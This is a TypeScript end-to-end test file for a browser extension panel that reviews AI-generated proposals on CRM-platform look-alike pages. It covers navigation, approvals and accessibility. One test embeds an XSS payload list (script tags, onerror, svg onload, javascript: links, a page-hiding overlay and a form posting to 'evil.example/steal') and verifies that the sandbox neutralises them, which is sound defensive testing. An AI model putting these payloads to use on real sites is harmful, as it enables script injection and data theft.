/**
 * Issue 6 in real Chromium with the production build: the panel on each platform's
 * look-alike pages shows the right proposals, follows SPA navigation, gets approvals to the
 * server, keeps hostile AI HTML inert, and passes axe.
 */
import { afterAll, beforeAll, describe, expect, it } from "vitest"
import { detectEntity } from "~src/platforms"
import type { Platform } from "~src/domain"
import { DEMO_URLS } from "../../scripts/demo-data"
import { seriousAxeViolations } from "../support/axe"
import { hostLayout } from "../support/host-layout"
import { pollUntil } from "../support/browser"
import { HUBSPOT_CONTACT_101, proposalFor, startE2ESession, type E2ESession } from "../support/e2e-session"
import { action, gotoWithPanel, openPanel, openProposal, panel, panelFrame, proposalCard } from "../support/panel"

const PLATFORM_PAGES: Array<{ platform: Platform; url: string }> = [
  { platform: "hubspot", url: DEMO_URLS.hubspotContact },
  { platform: "marketo", url: DEMO_URLS.marketoEmail },
  { platform: "salesforce", url: DEMO_URLS.salesforceLead },
  { platform: "pardot", url: DEMO_URLS.pardotProspect },
  { platform: "dynamics", url: DEMO_URLS.dynamicsContact }
]

/** The target an agent would name for a URL, read with the extension's own detectors. */
function targetFor(url: string) {
  const entity = detectEntity(url)
  if (!entity) throw new Error(`no detector recognises ${url}`)
  return { platform: entity.platform, kind: entity.kind, id: entity.id, url }
}

describe("the panel on each platform", () => {
  let session: E2ESession

  beforeAll(async () => {
    session = await startE2ESession()
  })

  afterAll(async () => {
    await session?.close()
  })

  it.each(PLATFORM_PAGES)("$platform: shows the page's proposal, follows SPA navigation to the next entity, and approves", async ({ url }) => {
    // Where the page's own "next" link leads, read on a throwaway tab.
    const probe = await session.browser.context.newPage()
    await probe.goto(url)
    const nextUrl = new URL((await probe.locator('a[data-fixture-nav="next"]:visible').first().getAttribute("href")) ?? "", probe.url()).toString()
    await probe.close()
    const here = await session.agent.createProposal(proposalFor(targetFor(url), { title: "For the first entity" }))
    const there = await session.agent.createProposal(proposalFor(targetFor(nextUrl), { title: "For the next entity" }))
    await session.syncNow()

    const page = await session.browser.context.newPage()
    await gotoWithPanel(page, url)
    const nextLink = page.locator('a[data-fixture-nav="next"]:visible').first()
    await openPanel(page)
    await (await proposalCard(page, here.id)).waitFor({ state: "visible", timeout: 20_000 })
    expect(await (await proposalCard(page, there.id)).count()).toBe(0)

    const clickedAt = Date.now()
    // The host's own router handles the click (pushState / hash / a full load on Pardot).
    await nextLink.evaluate((a: HTMLAnchorElement) => a.click())
    await expect.poll(() => page.url()).not.toBe(url)
    await openPanel(page) // still open after SPA navigation; reopened after Pardot's full page load
    await (await proposalCard(page, there.id)).waitFor({ state: "visible", timeout: 10_000 })
    // Reported, not asserted (2 shared cores): the target is under a second.
    console.log(`${url.split("/")[2]}: panel switched ${Date.now() - clickedAt} ms after the click`)
    await expect.poll(async () => (await proposalCard(page, here.id)).count()).toBe(0)

    const card = await openProposal(page, there.id)
    await action(card, "Approve").click()
    await pollUntil(async () => (await session.reviewer.getProposal(there.id)).status === "approved", "the approval to reach the server")
    await page.close()
  })
})

describe("proposals for the items of the entity on screen", () => {
  let session: E2ESession

  beforeAll(async () => {
    session = await startE2ESession()
  })

  afterAll(async () => {
    await session?.close()
  })

  it("lists a campaign's email proposal under Related on the campaign page, and approves it from there", async () => {
    const campaign = targetFor(DEMO_URLS.hubspotCampaign)
    const email = await session.agent.createProposal(
      proposalFor({ ...targetFor(DEMO_URLS.hubspotEmail), parents: [{ kind: campaign.kind, id: campaign.id }] }, { title: "Subject line for a campaign email" })
    )
    await session.syncNow()

    const page = await session.browser.context.newPage()
    await gotoWithPanel(page, DEMO_URLS.hubspotCampaign)
    await openPanel(page)
    const related = (await panel(page)).getByRole("region", { name: "Related" })
    await related.locator(`article[data-proposal-id="${email.id}"]`).waitFor({ state: "visible", timeout: 20_000 })
    expect(await related.textContent()).toContain("Proposals for items in this campaign")

    const card = await openProposal(page, email.id)
    await action(card, "Approve").click()
    await pollUntil(async () => (await session.reviewer.getProposal(email.id)).status === "approved", "the approval to reach the server")
    await page.close()
  })
})

describe("hostile HTML in a content proposal", () => {
  let session: E2ESession

  beforeAll(async () => {
    session = await startE2ESession()
  })

  afterAll(async () => {
    await session?.close()
  })

  it("runs nothing in the host page or the panel and leaves the host layout untouched", async () => {
    const hostile = [
      "<p>Spring offer</p>",
      "<script>window.__signoffPwned = 'script'</script>",
      `<img src="x" onerror="window.__signoffPwned = 'onerror'; parent.__signoffPwned = 'onerror'">`,
      `<a href="javascript:parent.__signoffPwned='javascript-link'" id="js-link">Claim now</a>`,
      `<svg onload="parent.__signoffPwned='svg'"></svg>`,
      `<iframe src="javascript:parent.__signoffPwned='iframe'"></iframe>`,
      `<div style="position:fixed;inset:0;z-index:2147483647;background:red">overlay</div>`,
      "<style>body, html { display: none !important } * { visibility: hidden }</style>",
      `<form action="https://evil.example/steal"><input name="q" autofocus onfocus="parent.__signoffPwned='onfocus'"></form>`
    ].join("\n")
    const proposal = await session.agent.createProposal(
      proposalFor(HUBSPOT_CONTACT_101, {
        title: "Hostile email body",
        change: { kind: "content", field: "body", format: "html", before: "<p>Spring offer</p>", after: hostile }
      })
    )
    await session.syncNow()

    const page = await session.browser.context.newPage()
    const dialogs: string[] = []
    page.on("dialog", (dialog) => {
      dialogs.push(dialog.message())
      void dialog.dismiss()
    })
    await gotoWithPanel(page, HUBSPOT_CONTACT_101.url)
    const layoutBefore = await hostLayout(page)

    await openPanel(page)
    const card = await openProposal(page, proposal.id)
    await card.locator("iframe").first().waitFor({ state: "attached", timeout: 10_000 })
    await page.waitForTimeout(1_000) // give any injected handler (onerror, onload, autofocus) its chance to fire

    // Try the link too, the way a reviewer would.
    const preview = card.locator("iframe").first()
    const frame = await (await preview.elementHandle())?.contentFrame()
    if (frame)
      await frame
        .locator("a")
        .first()
        .click({ timeout: 2_000 })
        .catch(() => undefined)
    await page.waitForTimeout(300)

    expect(await page.evaluate(() => (window as unknown as { __signoffPwned?: string }).__signoffPwned)).toBeUndefined()
    expect(dialogs).toEqual([])

    // The preview is a sandbox without scripts; its document holds no executable markup.
    const sandbox = await preview.getAttribute("sandbox")
    expect(sandbox).not.toBeNull()
    expect(sandbox).not.toMatch(/allow-scripts/)
    if (frame) {
      const html = await frame.content()
      expect(html).not.toMatch(/<script|onerror=|onload=|onfocus=|javascript:/i)
    }

    // Nothing from the AI HTML reached the host DOM or the panel's own DOM.
    const leaks = await page.evaluate(() => {
      const roots: Array<Document | ShadowRoot> = [document]
      for (const el of document.querySelectorAll("*")) if (el.shadowRoot) roots.push(el.shadowRoot)
      return roots.flatMap((root) =>
        [...root.querySelectorAll("script, [onerror], [onload], [onfocus], a[href^='javascript:'], form[action*='evil']")]
          .filter((el) => el.tagName !== "SCRIPT" || el.textContent?.includes("__signoffPwned"))
          .map((el) => el.outerHTML.slice(0, 120))
      )
    })
    expect(leaks).toEqual([])

    const layoutAfter = await hostLayout(page)
    expect(layoutAfter).toEqual(layoutBefore)
    await page.close()
  })
})

describe("accessibility of the open panel", () => {
  let session: E2ESession

  beforeAll(async () => {
    session = await startE2ESession()
  })

  afterAll(async () => {
    await session?.close()
  })

  it("has no serious or critical axe violations with a proposal open", async () => {
    const proposal = await session.agent.createProposal(proposalFor(HUBSPOT_CONTACT_101, { risk: { customerData: true } }))
    await session.syncNow()
    const page = await session.browser.context.newPage()
    await gotoWithPanel(page, HUBSPOT_CONTACT_101.url)
    await openPanel(page)
    await openProposal(page, proposal.id)
    await (await panel(page)).waitFor({ state: "visible" })
    const violations = await seriousAxeViolations(await panelFrame(page))
    expect(violations, violations.join("\n")).toEqual([])
    await page.close()
  })
})
